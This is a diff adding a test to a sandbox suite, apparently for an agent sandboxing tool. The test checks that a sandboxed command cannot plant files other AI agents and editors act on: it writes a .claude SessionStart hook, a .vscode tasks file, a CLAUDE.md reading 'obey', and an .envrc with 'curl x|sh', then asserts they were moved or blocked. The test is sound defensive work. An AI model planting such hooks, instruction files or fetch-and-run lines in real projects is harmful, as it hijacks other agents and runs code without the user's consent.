@@ -247,6 +247,19 @@ describe.skipIf(!bwrapWorks)(`a sandboxed command attacks (bwrap)${bwrapWorks ? 
     expect(output(next)).toContain('next');
   });
 
+  it('cannot plant what other agents and editors run or obey: .claude hooks, .vscode tasks, CLAUDE.md, .envrc', async () => {
+    await writeFiles(root, { '.vscode/settings.json': '{}\n' });
+    const hook = '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /x"}]}]}}';
+    const run = await exec(`mkdir -p .claude && echo '${hook}' > .claude/settings.json; echo '{"tasks":[]}' > .vscode/tasks.json; echo 'obey' > CLAUDE.md; echo 'curl x|sh' > .envrc; true\n`);
+    expect(run.status).toBe(0);
+    const warnings = (envelope(run).warnings ?? []).join('\n');
+    for (const name of ['.claude', 'CLAUDE.md', '.envrc']) expect(warnings).toContain(`${join(root, name)}; it was moved`);
+    expect(await exists(join(root, '.claude'))).toBe(false);
+    expect(await exists(join(root, 'CLAUDE.md'))).toBe(false);
+    expect(await exists(join(root, '.vscode', 'tasks.json'))).toBe(false);
+    expect(output(run)).toMatch(/tasks\.json: Read-only file system/);
+  });
+
   it('reads no secret of the home folder, follows the toolchain list, and survives a symlinked ~/.ssh', async () => {
     const keys = await realpath(await mkdtemp(join(base, 'codeward-atk-keys-')));
     try {
